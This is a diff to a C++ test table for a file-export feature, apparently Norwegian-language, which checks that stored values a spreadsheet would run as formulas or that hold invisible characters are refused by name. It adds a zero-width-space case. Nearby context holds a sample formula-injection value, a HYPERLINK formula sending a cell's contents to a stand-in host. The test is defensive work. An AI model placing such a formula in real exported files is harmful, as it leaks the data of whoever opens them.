@@ -153,6 +153,8 @@ TEST(ExportFile, AStoredTextItCannotCarryOrThatASpreadsheetWouldRunIsRefusedNami
         QStringList parts; // of the refusal; empty: written
     } cases[] = {
         {"SKOLA = 'Nord' || char(9) || 'skole'", {"\"Skole\"", "U+0009"}},
+        // An invisible character goes by its code, as the person form names it.
+        {"NAMN = 'Ola' || char(8203)", {"\"Navn\" inneholder tegnet U+200b,"}},
         {"NAMN = '=HYPERLINK(\"http://x.invalid/?\"&B2,\"klikk\")'", {"\"Navn\" begynner med \"=\"", "formel"}},
         {"TELEFON = '+47 22 33 44 55'", {"\"Telefon\" begynner med \"+\""}},
         {"ADRESS = '-1'", {"\"Adresse\" begynner med \"-\""}},
